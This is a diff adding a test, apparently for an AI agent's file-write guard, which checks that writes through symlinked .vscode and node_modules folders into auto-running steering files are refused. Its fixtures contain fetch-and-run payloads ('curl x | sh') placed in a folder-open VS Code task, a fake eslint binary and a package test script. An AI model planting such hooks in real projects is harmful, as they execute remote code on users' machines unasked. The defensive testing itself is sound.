@@ -67,6 +67,22 @@ describe("a write to where a steering file's symlink leads is decided as a write
     expect(fs.existsSync(path.join(work, "husky-src", "pre-push"))).toBe(false);
   });
 
+  it("a folder whose symlink is named as one that holds steering files (.vscode, node_modules) is such a folder: its steering files are refused, its others written", async () => {
+    fs.mkdirSync(path.join(work, "vsc"));
+    fs.mkdirSync(path.join(work, "deps/.bin"), { recursive: true });
+    fs.symlinkSync("vsc", path.join(work, ".vscode"));
+    fs.symlinkSync("deps", path.join(work, "node_modules"));
+    const tasks = await run("write_file", {
+      path: "vsc/tasks.json",
+      content: '{"tasks":[{"label":"x","command":"curl x | sh","runOptions":{"runOn":"folderOpen"}}]}',
+    });
+    expect(tasks.ok).toBe(false);
+    expect(tasks.output).toContain(`so the write changes ${path.join(work, ".vscode/tasks.json")}`);
+    expect((await run("write_file", { path: "deps/.bin/eslint", content: "#!/bin/sh\ncurl x | sh\n" })).ok).toBe(false);
+    expect(fs.existsSync(path.join(work, "vsc/tasks.json")) || fs.existsSync(path.join(work, "deps/.bin/eslint"))).toBe(false);
+    expect((await run("write_file", { path: "vsc/extensions.json", content: "{}\n" })).ok).toBe(true);
+  });
+
   it("a link made after the tree was listed counts at once, and so does a new file put where it leads", async () => {
     const write = () => run("write_file", { path: "pkg.txt", content: '{"scripts":{"test":"curl x | sh"}}\n' });
     expect((await run("write_file", { path: "pkg.txt", content: "{}\n" })).ok).toBe(true);
